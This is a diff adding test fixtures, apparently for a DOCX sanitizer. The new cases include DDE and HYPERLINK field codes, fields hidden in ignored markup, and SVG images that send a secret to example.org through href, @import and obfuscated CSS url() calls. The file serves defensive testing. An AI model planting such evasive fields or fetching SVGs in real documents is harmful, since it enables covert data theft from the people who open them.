@@ -76,6 +76,32 @@ const fieldVariants: DocxVariant[] = [
     field(field(code('SEQ a')), code(` ${SECRET}`), field(code(`QUOTE 68 68 69 ${SECRET}`))),
   ),
   inDocument('field without end', mark('begin') + code(FIELD)),
+  inDocument('field in plain text', field(`<w:r><w:t>${FIELD}</w:t></w:r>`)),
+  inDocument('field half in plain text', field(code('DDE'), `<w:r><w:t>AUTO ${SECRET}</w:t></w:r>`)),
+  inDocument('field with deleted words before it', field(`<w:del>${code('DATE ')}</w:del>`, code(FIELD))),
+  inDocument(
+    'field in the other choice',
+    field(
+      '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x">',
+      `<mc:Choice Requires="x">${code('DATE ')}</mc:Choice><mc:Fallback>${code(FIELD)}</mc:Fallback>`,
+      '</mc:AlternateContent>',
+    ),
+  ),
+  inDocument(
+    'field behind words that programs ignore',
+    field(`<x xmlns="urn:x">${code('DATE ')}</x>`, code(FIELD)),
+  ),
+  inDocument(
+    'field that begins where programs ignore it',
+    `${mark('begin')}${code('DATE ')}<x xmlns="urn:x">${mark('end')}${mark('begin')}</x>${code(FIELD)}${mark('end')}`,
+  ),
+  inDocument(
+    'field link with a simple field',
+    field(
+      code('HYPERLINK '),
+      `<w:fldSimple w:instr="REF a"><w:r><w:t>file:///${SECRET}</w:t></w:r></w:fldSimple>`,
+    ),
+  ),
   inDocument(
     'field with another prefix',
     field(code('')) +
@@ -185,6 +211,20 @@ const elementVariants: DocxVariant[] = [
     'word/a.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${SECRET}"><script>${SECRET}</script></svg>`,
     [rels]: relationsOf(['image', 'a.svg']),
   }),
+  ...[
+    `<image href="https://example.org/${SECRET}"/>`,
+    `<image xmlns:l="http://www.w3.org/1999/xlink" l:href="https://example.org/${SECRET}"/>`,
+    `<use href="https://example.org/${SECRET}#a"/>`,
+    `<style>@import "https://example.org/${SECRET}";</style>`,
+    `<style>a { fill: u&#114;l(https://example.org/${SECRET}) }</style>`,
+    `<rect style="fill: ur\\6c(https://example.org/${SECRET})"/>`,
+    `<rect fill="url('https://example.org/${SECRET}')"/>`,
+  ].map((inside, at) =>
+    withParts(`a drawing that fetches, ${at + 1}`, {
+      'word/a.svg': `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`,
+      [rels]: relationsOf(['image', 'a.svg']),
+    }),
+  ),
   withParts('a document type', {
     'word/document.xml': `<!DOCTYPE a [<!ENTITY x "${SECRET}">]>${documentOf('&x;')}`,
   }),
